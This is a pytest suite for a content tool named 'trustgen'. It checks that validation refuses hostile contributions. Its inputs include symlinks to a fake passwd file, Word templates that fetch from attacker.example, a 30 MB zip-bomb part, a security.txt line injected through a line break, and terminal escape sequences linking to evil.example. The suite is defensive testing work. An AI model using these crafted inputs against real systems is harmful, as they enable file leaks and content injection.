"""Hostile content: what a pull request to content/ may try, and what trustgen answers.

Every file trustgen reads from the content folder passes one gate (resolved, inside the folder, a
regular file); text fields refuse control characters, one-line fields refuse line breaks, and numbers
and nesting are bounded. Each test asserts the message a user sees, and that nothing secret is in it.
"""

from __future__ import annotations

import io
import os
import shutil
import zipfile
from pathlib import Path

import pytest
from kbtest import DATA, run_cli

DOCS_FIXTURE = DATA / "documents" / "kb"
CANARY = "CANARY-7f3a-outside-the-content-folder"


@pytest.fixture
def docs_kb(tmp_path: Path) -> Path:
    """The document fixture at tmp_path/content."""
    return Path(shutil.copytree(DOCS_FIXTURE, tmp_path / "content"))


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder beside the content folder holding a secret, like /etc/passwd is beside a checkout."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "passwd").write_text(f"{CANARY}:x:0:0:root:/root:/bin/sh\n", encoding="utf-8")
    (folder / "body.md").write_text(f"# Leaked\n\n{CANARY}\n", encoding="utf-8")
    (folder / "facts.yaml").write_text(
        "topic: encryption\nfacts:\n  - id: leaked\n    statement: {en: " + CANARY + ", sv: " + CANARY + "}\n"
        "    visibility: public\n    owner: x\n    last_reviewed: 2026-10-01\n", encoding="utf-8")
    return folder


def problems(err: str) -> list[str]:
    return [line for line in err.splitlines() if line.startswith("content/")]


# --- one read gate: nothing outside the content folder is read ---------------------------------------

def test_document_body_linked_out_of_the_folder_is_refused_and_not_published(
        docs_kb: Path, outside: Path, capsys: pytest.CaptureFixture[str]) -> None:
    body = docs_kb / "documents" / "overview.en.md"
    body.unlink()
    body.symlink_to(outside / "body.md")
    code, out, err = run_cli(["validate", "--content", "content"], docs_kb.parent, capsys)
    assert code == 1
    assert ("content/documents/overview.en.md: leads outside the content folder (a symbolic link?); "
            "document bodies must be inside it") in err
    assert CANARY not in err + out
    code, out, err = run_cli(["docs", "--content", "content", "--out", "out"], docs_kb.parent, capsys)
    assert code == 1
    assert "content/documents/overview.en.md: leads outside the content folder" in err
    assert not (docs_kb.parent / "out").exists()
    assert "Traceback" not in err


@pytest.mark.parametrize("name, target", [
    ("organization.yaml", "passwd"),
    ("facts/leaked.yaml", "facts.yaml"),
    ("certifications.yaml", "passwd"),
])
def test_yaml_file_linked_out_of_the_folder_is_refused_without_its_content(
        minimal_kb: Path, outside: Path, capsys: pytest.CaptureFixture[str], name: str, target: str) -> None:
    link = minimal_kb / name
    link.unlink(missing_ok=True)
    link.symlink_to(outside / target)
    code, out, err = run_cli(["validate", "--content", "content"], minimal_kb.parent, capsys)
    assert code == 1
    assert (f"content/{name}: leads outside the content folder (a symbolic link?); content files must be "
            "inside it") in problems(err)
    assert CANARY not in err + out
    assert "Traceback" not in err


def test_link_that_stays_inside_the_folder_is_read(minimal_kb: Path, capsys: pytest.CaptureFixture[str]) -> None:
    shared = minimal_kb / "shared"
    shared.mkdir()
    (minimal_kb / "facts" / "encryption.yaml").rename(shared / "encryption.yaml")
    (minimal_kb / "facts" / "encryption.yaml").symlink_to(Path("..") / "shared" / "encryption.yaml")
    code, _, err = run_cli(["validate", "--content", "content"], minimal_kb.parent, capsys)
    assert code == 0, err
    assert "valid: 2 facts" in err


def test_fifo_device_and_folder_in_facts_are_named_not_skipped_or_waited_for(
        minimal_kb: Path, capsys: pytest.CaptureFixture[str]) -> None:
    facts = minimal_kb / "facts"
    os.mkfifo(facts / "pipe.yaml")
    os.mkfifo(facts / "notes")
    (facts / "zero.yaml").symlink_to("/dev/zero")
    (facts / "more").mkdir()
    (facts / "more" / "x.yaml").write_text("topic: encryption\nfacts: []\n", encoding="utf-8")
    code, _, err = run_cli(["validate", "--content", "content"], minimal_kb.parent, capsys)
    assert code == 1
    assert problems(err) == [
        "content/facts/more: a folder inside facts/ is not read; facts/ holds only *.yaml files",
        "content/facts/notes: not a YAML file; facts/ holds only *.yaml files",
        ("content/facts/pipe.yaml: is not a regular file (a FIFO, socket or device); content files must be "
         "plain files"),
        "content/facts/zero.yaml: leads outside the content folder (a symbolic link?); content files must be inside it",
    ]


def test_facts_as_a_file_names_the_cause(minimal_kb: Path, capsys: pytest.CaptureFixture[str]) -> None:
    shutil.rmtree(minimal_kb / "facts")
    (minimal_kb / "facts").write_text("topic: encryption\n", encoding="utf-8")
    code, _, err = run_cli(["validate", "--content", "content"], minimal_kb.parent, capsys)
    assert code == 1
    assert problems(err) == [("content/facts: facts must be a folder of *.yaml files inside the content folder, "
                             "not a file or a link")]


# --- DOCX templates are checked like workbooks --------------------------------------------------------

def _template(tmp_path: Path, extra: dict[str, bytes] | None = None, rels: str = "") -> bytes:
    """A real Word template made by python-docx, with parts added or an external relationship."""
    import docx

    buffer = io.BytesIO()
    docx.Document().save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if rels and info.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", rels.encode() + b"</Relationships>")
            target.writestr(info, data)
        for name, data in (extra or {}).items():
            target.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize("case, message", [
    ("attached", ("links to an outside resource (attachedTemplate in word/_rels/document.xml.rels); a Word "
                 "template may not refer to anything outside itself (Word would fetch it when the document is "
                 "opened): remove the link or embed the file")),
    ("image", ("links to an outside resource (image in word/_rels/document.xml.rels); a Word template may not "
              "refer to anything outside itself (Word would fetch it when the document is opened): remove the "
              "link or embed the file")),
    ("bomb", "holds a part (word/media/huge.bin) of 30 MB unpacked; a Word template's parts may be at most 20 MB"),
    ("not-docx", "is not a Word (.docx) file (it has no word/document.xml)"),
])
def test_hostile_word_template_is_refused_by_validate(docs_kb: Path, tmp_path: Path,
                                                      capsys: pytest.CaptureFixture[str], case: str,
                                                      message: str) -> None:
    rel = ('<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
           '{kind}" Target="http://attacker.example/{kind}" TargetMode="External"/>')
    data = {
        "attached": lambda: _template(tmp_path, rels=rel.format(kind="attachedTemplate")),
        "image": lambda: _template(tmp_path, rels=rel.format(kind="image")),
        "bomb": lambda: _template(tmp_path, {"word/media/huge.bin": b"\0" * (30 * 1024 * 1024)}),
        "not-docx": lambda: _zip({"hello.txt": b"a zip, not a Word file"}),
    }[case]()
    (docs_kb / "brand.docx").write_bytes(data)
    (docs_kb / "documents" / "settings.yaml").write_text("docx_template: brand.docx\n", encoding="utf-8")
    code, _, err = run_cli(["validate", "--content", "content"], docs_kb.parent, capsys)
    assert code == 1
    assert f"content/documents/settings.yaml:1:16: docx_template: 'brand.docx' {message}" in problems(err)


def test_clean_word_template_still_validates(docs_kb: Path, tmp_path: Path,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    (docs_kb / "brand.docx").write_bytes(_template(tmp_path))
    (docs_kb / "documents" / "settings.yaml").write_text("docx_template: brand.docx\n", encoding="utf-8")
    code, _, err = run_cli(["validate", "--content", "content"], docs_kb.parent, capsys)
    assert code == 0, err


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return out.getvalue()


# --- text fields: control characters, line breaks, numbers, nesting -----------------------------------

def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def test_line_break_in_legal_name_cannot_add_a_security_txt_line(minimal_kb: Path,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    _edit(minimal_kb / "organization.yaml", "legal_name: Testbolaget AB",
          'legal_name: "Testbolaget AB\\nContact: mailto:attacker@evil.example"')
    code, _, err = run_cli(["validate", "--content", "content"], minimal_kb.parent, capsys)
    assert code == 1
    assert problems(err) == [("content/organization.yaml:4:15: organization.legal_name: a line break in a one-line "
                             "field (it is written into security.txt, headers, titles and file names); write it "
                             "on one line")]


@pytest.mark.parametrize("value, message", [
    ('"Testbolaget\\0"', "text holds a control character (U+0000) at position 12; remove it"),
    ('"Test\\e[31mbolaget"', "text holds a control character (U+001B) at position 5; remove it"),
    ('"Test\\x9bbolaget"', "text holds a control character (U+009B) at position 5; remove it"),
])
def test_control_characters_in_text_are_refused_at_their_line(minimal_kb: Path, capsys: pytest.CaptureFixture[str],
                                                              value: str, message: str) -> None:
    _edit(minimal_kb / "organization.yaml", "name: Testbolaget\n", f"name: {value}\n")
    code, _, err = run_cli(["validate", "--content", "content"], minimal_kb.parent, capsys)
    assert code == 1
    assert problems(err) == [f"content/organization.yaml:3:9: organization.name: {message}"]
    assert "\x1b" not in err and "\0" not in err and "\x9b" not in err


def test_raw_escape_character_in_a_file_is_located(minimal_kb: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _edit(minimal_kb / "organization.yaml", "name: Testbolaget\n", "name: Test\x1b[2Jbolaget\n")
    code, _, err = run_cli(["validate", "--content", "content"], minimal_kb.parent, capsys)
    assert code == 1
    assert problems(err) == [("content/organization.yaml:3:13: text holds a control character (U+001B) that YAML "
                             "does not allow; remove it")]
    assert "\x1b" not in err


@pytest.mark.parametrize("value, message", [
    (".inf", "'.inf' is not a finite number"),
    (".nan", "'.nan' is not a finite number"),
    ("1" * 101, "number has more than 15 digits; write it as text or in a larger unit"),
])
def test_numbers_are_bounded(minimal_kb: Path, capsys: pytest.CaptureFixture[str], value: str, message: str) -> None:
    _edit(minimal_kb / "organization.yaml", "review_interval_days: 365", f"review_interval_days: {value}")
    code, _, err = run_cli(["validate", "--content", "content"], minimal_kb.parent, capsys)
    assert code == 1
    assert problems(err) == [f"content/organization.yaml:10:23: review_interval_days: {message}"]


def test_deep_nesting_is_an_error_not_a_crash(minimal_kb: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (minimal_kb / "facts" / "deep.yaml").write_text("topic: " + "[" * 900 + "]" * 900 + "\n", encoding="utf-8")
    code, _, err = run_cli(["validate", "--content", "content"], minimal_kb.parent, capsys)
    assert code == 1
    assert problems(err) == [("content/facts/deep.yaml:1:72: YAML nested more than 64 levels deep; content files "
                             "are a few levels deep")]


def test_document_title_longer_than_word_allows_is_a_validate_error(docs_kb: Path,
                                                                    capsys: pytest.CaptureFixture[str]) -> None:
    _edit(docs_kb / "documents" / "overview.yaml", "title: {en: Security Overview,",
          "title: {en: " + "T" * 256 + ",")
    code, _, err = run_cli(["validate", "--content", "content"], docs_kb.parent, capsys)
    assert code == 1
    assert ("content/documents/overview.yaml:3:13: title.en: is 256 characters long; a document's title may have "
            "at most 255 (it is the title of the PDF and the Word file)") in problems(err)


def test_control_character_in_a_body_is_located(docs_kb: Path, capsys: pytest.CaptureFixture[str]) -> None:
    body = docs_kb / "documents" / "overview.en.md"
    body.write_text(body.read_text(encoding="utf-8") + "\nsee \x1b]8;;http://evil.example\x07here\n",
                    encoding="utf-8")
    lines = body.read_text(encoding="utf-8").split("\n")
    code, _, err = run_cli(["validate", "--content", "content"], docs_kb.parent, capsys)
    assert code == 1
    assert (f"content/documents/overview.en.md:{len(lines) - 1}:1: text holds a control character (U+001B) at "
            "position 5; remove it") in problems(err)


def test_locale_without_a_catalog_is_named_by_validate(minimal_kb: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _edit(minimal_kb / "organization.yaml", "locales: [en, sv]", "locales: [en, sv, fi]")
    for path in (minimal_kb / "organization.yaml", minimal_kb / "facts" / "encryption.yaml"):
        text = path.read_text(encoding="utf-8")
        path.write_text(text, encoding="utf-8")
    _code, _, err = run_cli(["validate", "--content", "content"], minimal_kb.parent, capsys)
    assert ("content/organization.yaml:9:19: warning: locales[2]: trustgen's own words (headings, labels, units) "
            "are not translated into 'fi' (no locales/fi/LC_MESSAGES/*.po): questionnaires can be answered in it, "
            "but the site and the documents cannot be built") in problems(err)


def test_locale_without_a_catalog_fails_build_and_docs_at_its_line(tmp_path: Path,
                                                                    capsys: pytest.CaptureFixture[str]) -> None:
    import yaml

    content = Path(shutil.copytree(DATA / "good" / "minimal", tmp_path / "content"))

    def add_finnish(node: object) -> None:
        if isinstance(node, dict):
            if isinstance(node.get("sv"), str):
                node["fi"] = node["sv"]
            for value in node.values():
                add_finnish(value)
        elif isinstance(node, list):
            for value in node:
                add_finnish(value)

    for path in content.rglob("*.yaml"):
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        add_finnish(data)
        if "locales" in data:
            data["locales"] = ["en", "sv", "fi"]
        path.write_text(yaml.safe_dump(data, allow_unicode=True).replace("answer: true", "answer: 'yes'"),
                        encoding="utf-8")
    code, _, err = run_cli(["validate", "--content", "content"], tmp_path, capsys)
    assert code == 0, err
    line = next(n for n, text in enumerate((content / "organization.yaml").read_text().splitlines(), 1)
                if text.startswith("- fi"))
    for command in (["build", "--out", "site"], ["docs", "--out", "site"]):
        code, _, err = run_cli([*command, "--content", "content"], tmp_path, capsys)
        assert code == 1
        assert (f"content/organization.yaml:{line}:3: locales[2]: trustgen's own words (headings, labels, units) "
                "are not translated into 'fi'") in err
        assert not (tmp_path / "site").exists()


def test_reference_inside_a_localized_value_is_refused(minimal_kb: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _edit(minimal_kb / "facts" / "encryption.yaml", '      min_tls: {tls: "1.2"}\n',
          '      min_tls: {tls: "1.2"}\n      hours: {localized: {en: "{org:legal_name}", sv: dygnet runt}}\n')
    code, _, err = run_cli(["validate", "--content", "content"], minimal_kb.parent, capsys)
    assert code == 1
    assert any("values.hours.localized.en: a value's text is published as written and cannot hold references "
               "or braces; write the reference in the statement instead" in line for line in problems(err))


def test_schema_messages_speak_yaml_not_python(minimal_kb: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _edit(minimal_kb / "facts" / "encryption.yaml", "visibility: public", "visibility:")
    code, _, err = run_cli(["validate", "--content", "content"], minimal_kb.parent, capsys)
    assert code == 1
    assert "None" not in err
    assert "an empty value is not one of: public, nda, internal" in err
